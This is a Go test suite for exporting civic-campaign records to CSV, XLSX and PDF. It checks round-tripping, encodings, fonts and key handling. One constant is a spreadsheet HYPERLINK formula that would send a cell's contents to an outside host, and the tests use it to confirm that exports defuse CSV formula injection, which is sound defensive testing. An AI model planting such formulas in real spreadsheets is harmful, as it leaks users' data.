package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"flag"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/xuri/excelize/v2"

	"github.com/voces-cdmx/voces/internal/campaign"
	"github.com/voces-cdmx/voces/internal/central"
	"github.com/voces-cdmx/voces/internal/central/centraltest"
	"github.com/voces-cdmx/voces/internal/export"
	"github.com/voces-cdmx/voces/internal/fieldsim"
	"github.com/voces-cdmx/voces/internal/record"
	"github.com/voces-cdmx/voces/internal/stroke"
	"github.com/voces-cdmx/voces/internal/voterid"
)

var keep = flag.String("keep", "", "copy the exported PDF and its rendered first pages to `DIR` for a look")

// sent is one record a test device uploaded, with the draft it was built
// from: what the export must give back.
type sent struct {
	draft *record.Draft
	rec   *record.Record
}

// fixture is a central holding records from a kiosk and a canvasser.
type fixture struct {
	c       *centraltest.Central
	sent    map[uuid.UUID]sent
	before  time.Time // just before the first upload
	after   time.Time // just after the last
	key     *export.Key
	options export.Options
}

// accented is a signer whose name has every Spanish accent, so the tests
// see them survive both formats.
const accented = "Begoña Íñiguez Úrsula Álvarez Ébano Óscar"

// formula is a comment a spreadsheet would run; the CSV must show it as
// text.
const formula = `=HYPERLINK("http://example.com/?"&A1,"ver")`

func newFixture(t testing.TB, perDevice int) *fixture {
	t.Helper()
	c := centraltest.Start(t)
	f := &fixture{c: c, sent: map[uuid.UUID]sent{}, before: time.Now().Add(-time.Second)}
	for i, mode := range []string{record.ModeKiosk, record.ModeCanvasser} {
		d := c.NewDevice(t, mode)
		g := fieldsim.New(d.Campaign, mode, uint64(100+i))
		var batch [][]byte
		for j := range perDevice {
			draft, _ := g.Next()
			switch j {
			case 0:
				draft = g.Signature()
				draft.Body.Signer.Name = accented
			case 1:
				// What a spreadsheet would run as a formula.
				draft = g.Comment()
				draft.Body.Comment.Text = formula
				draft.Body.Comment.Name = "@" + mode
			}
			r := d.Seal(t, draft)
			f.sent[r.ID] = sent{draft: draft, rec: r}
			batch = append(batch, r.Marshal())
		}
		for _, res := range d.Upload(t, batch).Results {
			if res.Status != "accepted" {
				t.Fatalf("upload: record %s: %s %s", res.ID, res.Status, res.Reason)
			}
		}
	}
	f.after = time.Now().Add(time.Second)
	key, err := export.LoadKey(filepath.Join(c.Dir, central.SealKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	f.key = key
	pcs, err := c.Store.Campaigns(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	for _, pc := range pcs {
		cp, err := campaign.Parse("campaign", pc.Content)
		if err != nil {
			t.Fatal(err)
		}
		f.options.Campaigns = append(f.options.Campaigns, cp)
	}
	return f
}

func (f *fixture) campaign() *campaign.Campaign {
	return f.options.Campaigns[len(f.options.Campaigns)-1]
}

// readCSV reads an export back, checking the byte order mark and the
// CRLF line ends, into maps from column name to cell.
func readCSV(t *testing.T, path string) (header []string, rows []map[string]string) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	rest, ok := bytes.CutPrefix(b, []byte("\xEF\xBB\xBF"))
	if !ok {
		t.Fatal("the CSV does not start with a UTF-8 byte order mark")
	}
	if !bytes.Contains(rest, []byte("\r\n")) || bytes.Count(rest, []byte("\n")) != bytes.Count(rest, []byte("\r\n")) {
		t.Error("the CSV's lines do not all end in CRLF")
	}
	recs, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header = recs[0]
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = r[i]
		}
		rows = append(rows, m)
	}
	return header, rows
}

func TestCSVRoundTripsEveryFieldOfEveryRecord(t *testing.T) {
	f := newFixture(t, 30)
	out := filepath.Join(t.TempDir(), "records.csv")
	loc, err := time.LoadLocation(export.DefaultTimeZone)
	if err != nil {
		t.Fatal(err)
	}
	var calls, lastDone, lastTotal int64
	opt := f.options
	opt.Progress = func(phase string, done, total int64) {
		if phase == export.PhaseWriting {
			calls++
			lastDone, lastTotal = done, total
		}
	}
	sum, err := export.CSV(context.Background(), f.c.Store, f.key, out, opt)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Records != int64(len(f.sent)) || calls != sum.Records || lastDone != lastTotal || lastTotal != sum.Records {
		t.Errorf("summary %d records, progress called %d times ending %d/%d; want %d", sum.Records, calls, lastDone, lastTotal, len(f.sent))
	}

	header, rows := readCSV(t, out)
	c := f.campaign()
	for _, q := range c.Survey.Questions {
		if !slices.Contains(header, export.SurveyColumnPrefix+q.ID) {
			t.Errorf("no column for survey question %s", q.ID)
		}
	}
	if len(rows) != len(f.sent) {
		t.Fatalf("%d rows, want %d", len(rows), len(f.sent))
	}
	seen := map[uuid.UUID]bool{}
	byKind := map[record.Kind]int64{}
	for _, row := range rows {
		id, err := uuid.Parse(row["record_id"])
		if err != nil {
			t.Fatalf("record_id %q: %v", row["record_id"], err)
		}
		s, ok := f.sent[id]
		if !ok || seen[id] {
			t.Fatalf("row for record %s: not uploaded, or twice", id)
		}
		seen[id] = true
		r, d := s.rec, s.draft
		byKind[r.Kind]++
		want := map[string]string{
			"receipt":     record.ReceiptCode(r.ID),
			"kind":        string(r.Kind),
			"subject_id":  r.SubjectID,
			"device_id":   r.DeviceID,
			"seq":         strconv.FormatUint(r.Seq, 10),
			"mode":        r.Mode,
			"channel":     r.Mode, // uploads come in on the channel of their mode
			"event_id":    r.EventID,
			"alcaldia":    r.Alcaldia,
			"device_time": r.DeviceTime.In(loc).Format(export.TimeLayout),
			"canvasser":   d.Body.Canvasser,
		}
		for _, col := range export.CSVColumns[13:24] {
			want[col] = ""
		}
		for _, col := range export.CSVColumns[25:] {
			want[col] = ""
		}
		switch r.Kind {
		case record.KindSignature:
			p := c.Proposal(r.SubjectID)
			want["subject_title"] = p.Title.Get("es")
			s := d.Body.Signer
			want["signer_name"], want["signer_id_type"], want["signer_voter_id"] = s.Name, s.IDType, voterid.Normalize(s.VoterID)
			want["signer_alcaldia"], want["consent_version"] = s.Alcaldia, s.ConsentVersion
		case record.KindEvent:
			want["subject_title"] = c.Event(r.SubjectID).Title.Get("es")
			g := d.Body.Registrant
			want["registrant_name"], want["registrant_contact"], want["consent_version"] = g.Name, g.Contact, g.ConsentVersion
		case record.KindComment:
			a := c.Article(r.SubjectID)
			want["subject_title"] = "Artículo " + a.Number + ". " + a.Title.Get("es")
			want["comment_text"], want["comment_name"], want["comment_alcaldia"] = d.Body.Comment.Text, d.Body.Comment.Name, d.Body.Comment.Alcaldia
		case record.KindSurvey:
			want["subject_title"] = c.Survey.Title.Get("es")
		case record.KindProposal:
			s, p := d.Body.Signer, d.Body.Proposal
			want["signer_name"], want["signer_id_type"], want["signer_voter_id"] = s.Name, s.IDType, voterid.Normalize(s.VoterID)
			want["signer_alcaldia"], want["consent_version"] = s.Alcaldia, s.ConsentVersion
			want["submission_title"], want["submission_text"] = record.NormalizeLine(p.Title), record.NormalizeText(p.Text)
			want["submission_theme"], want["submission_lang"], want["submission_named"] = p.Theme, p.Lang, strconv.FormatBool(p.Named)
		case record.KindEventProposal:
			a := d.Body.Assembly
			want["submission_title"], want["submission_text"], want["submission_lang"] = a.Title, a.About, a.Lang
			want["assembly_starts"] = a.Starts.In(loc).Format(export.TimeLayout)
			want["assembly_venue"], want["assembly_organiser"], want["assembly_contact"] = a.Venue, a.Organiser, a.Contact
			want["consent_version"] = a.ConsentVersion
		}
		want["canvasser"] = d.Body.Canvasser
		for _, q := range c.Survey.Questions {
			a := d.Body.Answers[q.ID]
			w := a.Choice + strings.Join(a.Choices, "; ") + a.Text
			if a.Number != nil {
				w = strconv.FormatFloat(*a.Number, 'f', -1, 64)
			}
			want[export.SurveyColumnPrefix+q.ID] = w
		}
		want["survey_other"] = ""
		for col, w := range want {
			if w != "" && strings.ContainsRune("=+-@", rune(w[0])) {
				w = "'" + w // defused, see TestSafeCell
			}
			if row[col] != w {
				t.Errorf("record %s (%s) %s = %q, want %q", id, r.Kind, col, row[col], w)
			}
		}
		received, err := time.Parse(export.TimeLayout, row["received_at"])
		if err != nil || received.Before(f.before) || received.After(f.after) {
			t.Errorf("record %s received_at %q: not the time of the upload", id, row["received_at"])
		}

		// The signature file holds the very strokes the person drew.
		if !r.Kind.Signed() {
			if row["signature_file"] != "" {
				t.Errorf("record %s (%s) has a signature file", id, r.Kind)
			}
			continue
		}
		if want := "records_signatures/" + id.String() + ".svg"; row["signature_file"] != want {
			t.Errorf("record %s signature_file %q, want %q", id, row["signature_file"], want)
		}
		checkSVG(t, filepath.Join(filepath.Dir(out), row["signature_file"]), d.Body.Strokes)
	}
	for _, k := range record.Kinds {
		if sum.ByKind[k] != byKind[k] || byKind[k] == 0 {
			t.Errorf("%s: summary %d, rows %d; want equal and not zero", k, sum.ByKind[k], byKind[k])
		}
	}
	if !slices.ContainsFunc(rows, func(r map[string]string) bool { return r["signer_name"] == accented }) {
		t.Errorf("no row has the signer %q intact", accented)
	}
	if !slices.ContainsFunc(rows, func(r map[string]string) bool { return r["comment_text"] == "'"+formula }) {
		t.Errorf("no row has the comment %q defused", formula)
	}
}

// checkSVG parses a signature file and checks it has one path per stroke
// of the signature it was written from.
func checkSVG(t *testing.T, path string, strokes []byte) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Error(err)
		return
	}
	var doc struct {
		XMLName xml.Name
		Paths   []struct {
			D string `xml:"d,attr"`
		} `xml:",any"`
	}
	if err := xml.Unmarshal(b, &doc); err != nil {
		t.Errorf("%s: %v", path, err)
		return
	}
	sig, err := stroke.Decode(strokes)
	if err != nil {
		t.Fatal(err)
	}
	paths := strings.Count(string(b), "<path")
	if doc.XMLName.Local != "svg" || paths != len(sig.Strokes) {
		t.Errorf("%s: root <%s> with %d paths, want <svg> with %d", path, doc.XMLName.Local, paths, len(sig.Strokes))
	}
}

func TestCSVOfOneKind(t *testing.T) {
	f := newFixture(t, 12)
	dir := t.TempDir()
	tests := []struct {
		kind    record.Kind
		sigsDir bool
	}{
		{record.KindComment, false},
		{record.KindSignature, true},
	}
	for _, tt := range tests {
		t.Run(string(tt.kind), func(t *testing.T) {
			out := filepath.Join(dir, string(tt.kind)+".csv")
			opt := f.options
			opt.Kind = tt.kind
			if _, err := export.CSV(context.Background(), f.c.Store, f.key, out, opt); err != nil {
				t.Fatal(err)
			}
			_, rows := readCSV(t, out)
			want := 0
			for _, s := range f.sent {
				if s.rec.Kind == tt.kind {
					want++
				}
			}
			if len(rows) != want || want == 0 {
				t.Errorf("%d rows, want %d (not zero)", len(rows), want)
			}
			for _, r := range rows {
				if r["kind"] != string(tt.kind) {
					t.Errorf("row of kind %s", r["kind"])
				}
			}
			if _, err := os.Stat(export.SignaturesDir(out)); (err == nil) != tt.sigsDir {
				t.Errorf("signatures directory exists: %v, want %v", err == nil, tt.sigsDir)
			}
		})
	}
}

func TestExportWithTheWrongKeyWritesNothing(t *testing.T) {
	f := newFixture(t, 6)
	pub, priv, err := record.NewCampaignKey()
	if err != nil {
		t.Fatal(err)
	}
	wrong := &export.Key{Public: pub, Private: priv}
	tests := []struct {
		name  string
		write func(context.Context, central.RecordReader, *export.Key, string, export.Options) (*export.Summary, error)
		file  string
	}{
		{"csv", export.CSV, "out.csv"},
		{"pdf", export.PDF, "out.pdf"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			out := filepath.Join(dir, tt.file)
			// An earlier good export stays as it was.
			if err := os.WriteFile(out, []byte("earlier export"), 0o600); err != nil {
				t.Fatal(err)
			}
			_, err := tt.write(context.Background(), f.c.Store, wrong, out, f.options)
			if !errors.Is(err, record.ErrOpen) {
				t.Fatalf("export with the wrong key: %v, want record.ErrOpen", err)
			}
			if !regexp.MustCompile(`record [0-9a-f-]{36} \(device dev-\w+, seq \d+\)`).MatchString(err.Error()) {
				t.Errorf("error %q does not name the record", err)
			}
			if b, _ := os.ReadFile(out); string(b) != "earlier export" {
				t.Errorf("the earlier export was replaced by %d bytes", len(b))
			}
			entries, _ := os.ReadDir(dir)
			if len(entries) != 1 {
				var names []string
				for _, e := range entries {
					names = append(names, e.Name())
				}
				t.Errorf("directory holds %v, want only the earlier export", names)
			}
		})
	}
}

func TestLoadKey(t *testing.T) {
	dir := t.TempDir()
	short := filepath.Join(dir, "short.key")
	if err := os.WriteFile(short, make([]byte, 31), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := export.LoadKey(filepath.Join(dir, "absent.key")); !errors.Is(err, export.ErrNoKey) {
		t.Errorf("missing file: %v, want ErrNoKey", err)
	}
	if _, err := export.LoadKey(short); err == nil || errors.Is(err, export.ErrNoKey) {
		t.Errorf("31-byte file: %v, want a size error", err)
	}
	keys, err := central.InitDir(filepath.Join(dir, "data"))
	if err != nil {
		t.Fatal(err)
	}
	k, err := export.LoadKey(filepath.Join(dir, "data", central.SealKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	if *k.Public != *keys.SealPublic || *k.Private != *keys.SealPrivate {
		t.Error("LoadKey does not give central's campaign key pair")
	}
}

// needPoppler returns the path of a poppler tool, skipping the test when
// it is missing, except in CI where a missing tool is a failure.
func needPoppler(t *testing.T, tool string) string {
	t.Helper()
	p, err := exec.LookPath(tool)
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatalf("%s (poppler-utils) is not installed; CI must have it", tool)
		}
		t.Skipf("%s (poppler-utils) is not installed; skipping the PDF check", tool)
	}
	return p
}

func TestPDFHasOneRowPerSignatureWithNamesIntact(t *testing.T) {
	pdftotext := needPoppler(t, "pdftotext")
	pdftoppm := needPoppler(t, "pdftoppm")
	f := newFixture(t, 40)
	dir := t.TempDir()
	out := filepath.Join(dir, "firmas.pdf")
	opt := f.options
	opt.Now = time.Date(2026, 11, 26, 18, 30, 0, 0, time.UTC)
	progress := map[string][2]int64{}
	opt.Progress = func(phase string, done, total int64) { progress[phase] = [2]int64{done, total} }
	sum, err := export.PDF(context.Background(), f.c.Store, f.key, out, opt)
	if err != nil {
		t.Fatal(err)
	}
	txt, err := exec.Command(pdftotext, "-enc", "UTF-8", out, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	text := string(txt)

	var sigs int64
	proposals := map[string]bool{}
	for id, s := range f.sent {
		n := strings.Count(text, id.String())
		if s.rec.Kind != record.KindSignature {
			if n != 0 {
				t.Errorf("%s record %s is on the sheets", s.rec.Kind, id)
			}
			continue
		}
		sigs++
		proposals[s.rec.SubjectID] = true
		if n != 1 {
			t.Errorf("signature %s appears %d times, want once", id, n)
		}
		if v := voterid.Normalize(s.draft.Body.Signer.VoterID); !strings.Contains(text, v) {
			t.Errorf("signature %s: voter id %s missing", id, v)
		}
		for _, w := range strings.Fields(s.draft.Body.Signer.Name) {
			if !strings.Contains(text, w) {
				t.Errorf("signature %s: name word %q missing or garbled", id, w)
			}
		}
	}
	if sum.Records != sigs || sigs == 0 {
		t.Errorf("summary %d records, want the %d signatures", sum.Records, sigs)
	}
	for _, phase := range []string{export.PhaseReading, export.PhaseRendering} {
		if p := progress[phase]; p != [2]int64{sigs, sigs} {
			t.Errorf("progress %s ended at %d/%d, want %d/%d", phase, p[0], p[1], sigs, sigs)
		}
	}
	for _, w := range strings.Fields(accented) {
		if !strings.Contains(text, w) {
			t.Errorf("accented name word %q is not in the text", w)
		}
	}
	c := f.campaign()
	for id := range proposals {
		if title := c.Proposal(id).Title.Get("es"); !strings.Contains(strings.Join(strings.Fields(text), " "), title) {
			t.Errorf("proposal %s: title %q missing", id, title)
		}
	}
	if n := strings.Count(text, "HOJAS DE FIRMAS DE APOYO"); n != len(proposals) {
		t.Errorf("%d title pages, want one per proposal with signatures (%d)", n, len(proposals))
	}
	if !regexp.MustCompile(`Página 1 de \d+`).MatchString(text) || !strings.Contains(text, "Generado el 2026-11-26 12:30") {
		t.Error("the footer lacks the page number or the generation time")
	}

	checkFontsEmbedded(t, out)

	prefix := filepath.Join(dir, "page")
	if err := exec.Command(pdftoppm, "-png", "-r", "80", "-f", "1", "-l", "2", out, prefix).Run(); err != nil {
		t.Fatalf("pdftoppm: %v", err)
	}
	pages, _ := filepath.Glob(prefix + "*.png")
	if len(pages) != 2 {
		t.Fatalf("pdftoppm rendered %v, want pages 1 and 2", pages)
	}
	if *keep != "" {
		for _, p := range append(pages, out) {
			b, _ := os.ReadFile(p)
			os.WriteFile(filepath.Join(*keep, filepath.Base(p)), b, 0o644)
		}
	}
}

// checkFontsEmbedded runs pdffonts on a sheet: every font must be
// embedded, with a Unicode map, and be the kiosk's Noto Sans (regular,
// bold, italic) or DejaVu Sans Mono; no base-14 font that a reader
// substitutes.
func checkFontsEmbedded(t *testing.T, pdf string) {
	t.Helper()
	out, err := exec.Command(needPoppler(t, "pdffonts"), pdf).Output()
	if err != nil {
		t.Fatalf("pdffonts: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) < 3 || !strings.HasPrefix(lines[1], "---") {
		t.Fatalf("pdffonts printed no font:\n%s", out)
	}
	// name type encoding emb sub uni object ID
	fonts := map[string]bool{}
	for _, l := range lines[2:] {
		f := strings.Fields(l)
		if len(f) < 7 {
			t.Fatalf("pdffonts line %q", l)
		}
		name, emb, uni := f[0], f[len(f)-5], f[len(f)-3]
		if emb != "yes" || uni != "yes" {
			t.Errorf("font %s: embedded %s, Unicode map %s; want both yes", name, emb, uni)
		}
		// A subset's name is its base font after a six-letter tag.
		if _, base, ok := strings.Cut(name, "+"); ok {
			name = base
		}
		fonts[name] = true
	}
	// fpdf names a font "utf8", its family in lower case and its style.
	for _, want := range []string{"utf8notosans", "utf8notosansB", "utf8notosansI", "utf8dejavusansmono"} {
		if !fonts[want] {
			t.Errorf("pdffonts lists %v; want %s among them", fonts, want)
		}
	}
}

func TestPDFRefusesOtherKinds(t *testing.T) {
	out := filepath.Join(t.TempDir(), "x.pdf")
	_, err := export.PDF(context.Background(), nil, nil, out, export.Options{Kind: record.KindComment})
	if err == nil {
		t.Fatal("a PDF of comments was accepted")
	}
	if _, err := os.Stat(out); err == nil {
		t.Error("a file was written")
	}
}

func TestPDFWithoutSignaturesSaysSo(t *testing.T) {
	pdftotext := needPoppler(t, "pdftotext")
	c := centraltest.Start(t)
	key, err := export.LoadKey(filepath.Join(c.Dir, central.SealKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "firmas.pdf")
	sum, err := export.PDF(context.Background(), c.Store, key, out, export.Options{})
	if err != nil {
		t.Fatal(err)
	}
	txt, err := exec.Command(pdftotext, "-enc", "UTF-8", out, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	if sum.Records != 0 || !strings.Contains(string(txt), "No hay firmas de apoyo registradas.") {
		t.Errorf("%d records; text %q", sum.Records, txt)
	}
}

// excelEpoch is day 0 of a spreadsheet's dates (1900 system, with its
// leap-year quirk, for dates after March 1900).
var excelEpoch = time.Date(1899, time.December, 30, 0, 0, 0, 0, time.UTC)

// isNumberCell says whether a cell holds a number (dates are numbers
// with a date format): OOXML writes numbers with no type or type "n".
func isNumberCell(t *testing.T, wb *excelize.File, sheet, cell string) bool {
	t.Helper()
	ct, err := wb.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	raw, err := wb.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	_, perr := strconv.ParseFloat(raw, 64)
	return (ct == excelize.CellTypeUnset || ct == excelize.CellTypeNumber) && perr == nil
}

func TestXLSXHasASheetPerKindWithTypedColumns(t *testing.T) {
	f := newFixture(t, 30)
	out := filepath.Join(t.TempDir(), "registros.xlsx")
	loc, err := time.LoadLocation(export.DefaultTimeZone)
	if err != nil {
		t.Fatal(err)
	}
	opt := f.options
	var calls, lastDone, lastTotal int64
	opt.Progress = func(phase string, done, total int64) {
		if phase == export.PhaseWriting {
			calls++
			lastDone, lastTotal = done, total
		}
	}
	sum, err := export.XLSX(context.Background(), f.c.Store, f.key, out, opt)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Records != int64(len(f.sent)) || calls != sum.Records || lastDone != lastTotal || lastTotal != sum.Records {
		t.Errorf("summary %d records, progress called %d times ending %d/%d; want %d", sum.Records, calls, lastDone, lastTotal, len(f.sent))
	}
	wb, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatalf("excelize cannot open the export: %v", err)
	}
	defer wb.Close()
	var wantSheets []string
	for _, k := range record.Kinds {
		wantSheets = append(wantSheets, string(k))
	}
	if got := wb.GetSheetList(); !slices.Equal(got, wantSheets) {
		t.Fatalf("sheets %v, want %v", got, wantSheets)
	}
	tz := " (" + export.DefaultTimeZone + ")"
	seen := map[uuid.UUID]bool{}
	for _, sheet := range wantSheets {
		panes, err := wb.GetPanes(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 0 || panes.TopLeftCell != "A2" {
			t.Errorf("%s: panes %+v, want the header row frozen", sheet, panes)
		}
		rows, err := wb.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[h] = i
		}
		for _, h := range []string{"record_id", "receipt", "seq", "device_time" + tz, "received_at" + tz, "canvasser"} {
			if _, ok := col[h]; !ok {
				t.Errorf("%s: no column %q in %v", sheet, h, rows[0])
			}
		}
		// A date column narrower than its format shows "###".
		if dc, err := excelize.ColumnNumberToName(col["device_time"+tz] + 1); err == nil {
			if w, err := wb.GetColWidth(sheet, dc); err != nil || w < float64(len("yyyy-mm-dd hh:mm:ss.000"))+1 {
				t.Errorf("%s: device_time column %.0f wide (%v): too narrow for its dates", sheet, w, err)
			}
		}
		cellName := func(c, r int) string {
			n, err := excelize.CoordinatesToCellName(c+1, r+1)
			if err != nil {
				t.Fatal(err)
			}
			return n
		}
		var n int
		for ri, row := range rows[1:] {
			ri++ // the sheet row, after the header
			get := func(h string) string {
				if i, ok := col[h]; ok && i < len(row) {
					return row[i]
				}
				return ""
			}
			id, err := uuid.Parse(get("record_id"))
			if err != nil {
				t.Fatalf("%s row %d: record_id %q: %v", sheet, ri+1, get("record_id"), err)
			}
			s, ok := f.sent[id]
			if !ok || seen[id] || string(s.rec.Kind) != sheet {
				t.Fatalf("%s row %d: record %s not uploaded, seen twice, or of another kind", sheet, ri+1, id)
			}
			seen[id] = true
			n++
			r, d := s.rec, s.draft
			if get("receipt") != record.ReceiptCode(r.ID) || get("device_id") != r.DeviceID || get("subject_id") != r.SubjectID {
				t.Errorf("%s: record %s: envelope cells %q %q %q", sheet, id, get("receipt"), get("device_id"), get("subject_id"))
			}
			if !isNumberCell(t, wb, sheet, cellName(col["seq"], ri)) || get("seq") != strconv.FormatUint(r.Seq, 10) {
				t.Errorf("%s: record %s: seq %q is not the number %d", sheet, id, get("seq"), r.Seq)
			}
			dc := cellName(col["device_time"+tz], ri)
			if !isNumberCell(t, wb, sheet, dc) {
				t.Errorf("%s: record %s: device_time is not a date", sheet, id)
			}
			// The date is the campaign's wall clock, to the millisecond.
			raw, _ := wb.GetCellValue(sheet, dc, excelize.Options{RawCellValue: true})
			serial, _ := strconv.ParseFloat(raw, 64)
			l := r.DeviceTime.In(loc)
			wall := time.Date(l.Year(), l.Month(), l.Day(), l.Hour(), l.Minute(), l.Second(), l.Nanosecond(), time.UTC)
			want := float64(wall.Sub(excelEpoch)) / float64(24*time.Hour)
			if math.Abs(serial-want)*24*3600*1000 > 0.5 {
				t.Errorf("%s: record %s: device_time is day %f, want %f (%v)", sheet, id, serial, want, l)
			}
			style, err := wb.GetCellStyle(sheet, dc)
			if err != nil {
				t.Fatal(err)
			}
			if st, err := wb.GetStyle(style); err != nil || st.CustomNumFmt == nil || *st.CustomNumFmt != "yyyy-mm-dd hh:mm:ss.000" {
				t.Errorf("%s: device_time style %+v (%v), want a date format", sheet, st, err)
			}
			b := d.Body
			switch r.Kind {
			case record.KindSignature:
				if get("signer_name") != b.Signer.Name || get("signer_voter_id") != voterid.Normalize(b.Signer.VoterID) || get("signer_alcaldia") != b.Signer.Alcaldia {
					t.Errorf("signature %s: signer %q %q %q, want %+v", id, get("signer_name"), get("signer_voter_id"), get("signer_alcaldia"), b.Signer)
				}
			case record.KindEvent:
				if get("registrant_name") != b.Registrant.Name || get("registrant_contact") != b.Registrant.Contact {
					t.Errorf("registration %s: %q %q, want %+v", id, get("registrant_name"), get("registrant_contact"), b.Registrant)
				}
			case record.KindComment:
				c := cellName(col["comment_text"], ri)
				if get("comment_text") != b.Comment.Text || get("comment_name") != b.Comment.Name {
					t.Errorf("comment %s: %q by %q, want %q by %q", id, get("comment_text"), get("comment_name"), b.Comment.Text, b.Comment.Name)
				}
				if fm, err := wb.GetCellFormula(sheet, c); err != nil || fm != "" {
					t.Errorf("comment %s is a formula %q (%v): device text must stay text", id, fm, err)
				}
			case record.KindSurvey:
				for qid, a := range b.Answers {
					h := export.SurveyColumnPrefix + qid
					i, ok := col[h]
					if !ok {
						t.Errorf("survey %s: no column %s", id, h)
						continue
					}
					if a.Number != nil {
						if !isNumberCell(t, wb, sheet, cellName(i, ri)) || get(h) != strconv.FormatFloat(*a.Number, 'f', -1, 64) {
							t.Errorf("survey %s: %s = %q, want the number %v", id, h, get(h), *a.Number)
						}
					} else if get(h) != export.FormatAnswer(a) {
						t.Errorf("survey %s: %s = %q, want %q", id, h, get(h), export.FormatAnswer(a))
					}
				}
			}
		}
		if int64(n) != sum.ByKind[record.Kind(sheet)] {
			t.Errorf("%s: %d rows, summary says %d", sheet, n, sum.ByKind[record.Kind(sheet)])
		}
	}
	if len(seen) != len(f.sent) {
		t.Errorf("%d records in the workbook, want %d", len(seen), len(f.sent))
	}
}

func TestXLSXOfOneKindHasOneSheet(t *testing.T) {
	f := newFixture(t, 12)
	out := filepath.Join(t.TempDir(), "firmas.xlsx")
	opt := f.options
	opt.Kind = record.KindSignature
	sum, err := export.XLSX(context.Background(), f.c.Store, f.key, out, opt)
	if err != nil {
		t.Fatal(err)
	}
	wb, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	rows, err := wb.GetRows("signature")
	if got := wb.GetSheetList(); len(got) != 1 || got[0] != "signature" || err != nil {
		t.Fatalf("sheets %v (%v), want only signature", got, err)
	}
	if int64(len(rows)-1) != sum.Records || sum.Records != sum.ByKind[record.KindSignature] || sum.Records == 0 {
		t.Errorf("%d rows, summary %+v", len(rows)-1, sum)
	}
}

func TestCSVDelimiter(t *testing.T) {
	f := newFixture(t, 10)
	for _, d := range []rune{';', '\t'} {
		out := filepath.Join(t.TempDir(), "records.csv")
		opt := f.options
		opt.Delimiter = d
		if _, err := export.CSV(context.Background(), f.c.Store, f.key, out, opt); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\xEF\xBB\xBF"))))
		r.Comma = d
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%q: %v", d, err)
		}
		if len(recs) != len(f.sent)+1 || !slices.Equal(recs[0][:len(export.CSVColumns)], export.CSVColumns) {
			t.Errorf("%q: %d rows, header %v", d, len(recs), recs[0])
		}
		if first, _, _ := strings.Cut(string(b), "\r\n"); strings.Contains(first, ",") {
			t.Errorf("%q: the header line still has commas: %q", d, first)
		}
	}
	for _, tt := range []struct {
		in   string
		want rune
		ok   bool
	}{{",", ',', true}, {";", ';', true}, {"tab", '\t', true}, {"\t", '\t', true}, {"|", '|', true}, {":", 0, false}, {"", 0, false}, {";;", 0, false}} {
		got, err := export.ParseDelimiter(tt.in)
		if got != tt.want || (err == nil) != tt.ok {
			t.Errorf("ParseDelimiter(%q) = %q, %v; want %q, ok %v", tt.in, got, err, tt.want, tt.ok)
		}
	}
	if _, err := export.CSV(context.Background(), f.c.Store, f.key, filepath.Join(t.TempDir(), "x.csv"), export.Options{Delimiter: '"'}); err == nil {
		t.Error("a quote as delimiter was accepted")
	}
}
